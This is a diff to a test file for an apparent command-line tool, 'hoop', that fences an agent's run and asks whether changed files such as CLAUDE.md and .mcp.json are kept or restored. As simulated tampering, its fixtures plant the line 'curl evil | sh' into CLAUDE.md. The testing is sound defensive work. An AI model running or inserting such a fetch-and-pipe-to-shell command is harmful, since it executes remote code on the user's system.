@@ -74,10 +74,10 @@ test('on a terminal each is shown and asked for; what is restored is kept aside'
   type(`hoop run --target prod-db --fence -- sh -c '${EVIL}'\n`);
   await sees(/1\/2 .*CLAUDE\.md\S*: changed[\s\S]*\+ curl evil \| sh[\s\S]*\(s\)\? $/);
   expect(output()).toContain('  be kind');
-  type('\n');
-  await sees(/\(s\)\? [\s\S]*\(s\)\? $/);
+  type('x\n');
+  await sees(/\(s\)\? [\s\S]*type k, r, K, R or s[\s\S]*restore \(r\)[\s\S]*\(s\)\? $/);
   type('r\n');
-  await sees(/2\/2 .*app\/\.mcp\.json\S*: new[\s\S]*\(s\)\? $/);
+  await sees(/2\/2 .*app\/\.mcp\.json\S*: new[\s\S]*remove \(r\)[\s\S]*\(s\)\? $/);
   type('k\n');
   await sees(/kept:[\s\S]*restored:[\s\S]*ready> $/);
   type('exit\n');
@@ -102,7 +102,7 @@ test('one answer for all; a file that is changed while hoop asks is shown again'
   type('k\n');
   await sees(/2\/2 [\s\S]*\(s\)\? $/);
   type('R\n');
-  await sees(/restored:[\s\S]*ready> $/);
+  await sees(/removed:[\s\S]*ready> $/);
   type('exit\n');
   await ended;
   expect(claude()).toBe('be kind\nmy own work\n');
@@ -118,7 +118,7 @@ test('without a terminal it is told, and the next run here asks, without a fence
   expect(claude()).toContain('evil');
   const { type, sees, ended, output } = await shell();
   type(`hoop run --target prod-db -- sh -c 'echo "the agent-$((1+1))"; read x; echo "got-$x"'\n`);
-  await sees(/2 files [\s\S]*fenced[\s\S]*\(s\)\? $/);
+  await sees(/fenced run here changed 2 files[\s\S]*\(s\)\? $/);
   expect(output()).not.toContain('the agent-2');
   type('R\n');
   // What is typed from here on is the program's.
@@ -155,7 +155,7 @@ test('who leaves the question is asked again', async () => {
   type('\x03');
   await sees(/\(s\)\? [\s\S]*ready> $/);
   type('hoop run --target prod-db -- true\n');
-  await sees(/2 files [\s\S]*fenced[\s\S]*\(s\)\? $/);
+  await sees(/fenced run here changed 2 files[\s\S]*\(s\)\? $/);
   type('K\n');
   await sees(/kept:[\s\S]*ready> $/);
   type('exit\n');
@@ -190,6 +190,10 @@ test('the flags decide without asking, and exclude each other', async () => {
   const { stderr } = await fenced('rm CLAUDE.md', '--restore-changes');
   expect(stderr).toContain(`restored: ${project}/CLAUDE.md`);
   expect(claude()).toContain('curl evil');
+  const made = await fenced('mkdir new; echo {} > new/.mcp.json', '--restore-changes');
+  expect(made.stderr).toContain(`removed: ${project}/new/.mcp.json`);
+  expect(made.stderr).toContain('the run’s version is in ');
+  expect(made.stderr).not.toContain('restored');
   expect((await fenced('true', '--keep-changes', '--restore-changes')).exitCode).toBe(2);
 });
 
